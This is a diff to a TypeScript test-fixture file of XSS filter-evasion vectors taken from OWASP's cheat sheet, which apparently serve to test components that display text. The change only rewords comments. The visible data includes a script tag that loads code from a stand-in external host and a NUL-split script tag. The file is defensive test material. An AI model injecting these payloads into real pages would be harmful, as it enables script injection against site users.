@@ -1,6 +1,6 @@
 /**
- * Examples for the tests of everything that shows texts: one for each way of OWASP's XSS Filter Evasion Cheat
- * Sheet to smuggle a script past a filter, and ways to break out of the places where a page contains a text.
+ * Examples for the tests of everything that shows texts. There is one for each method of OWASP's XSS Filter
+ * Evasion Cheat Sheet. The others try to break out of the place where a page contains a text.
  */
 export const markupVectors: readonly string[] = [
   '<SCRIPT SRC=https://xss.example/x.js></SCRIPT>',
@@ -86,6 +86,6 @@ export const addressVectors: readonly string[] = [
 ];
 
 /**
- * No stored text can contain NUL, because every call refuses it. Pages that show texts need not rely on that.
+ * No stored text can contain NUL, because every call refuses it. Pages show such a text safely all the same.
  */
 export const nulVector = '<scr\u0000ipt>alert(1)</scr\u0000ipt>';
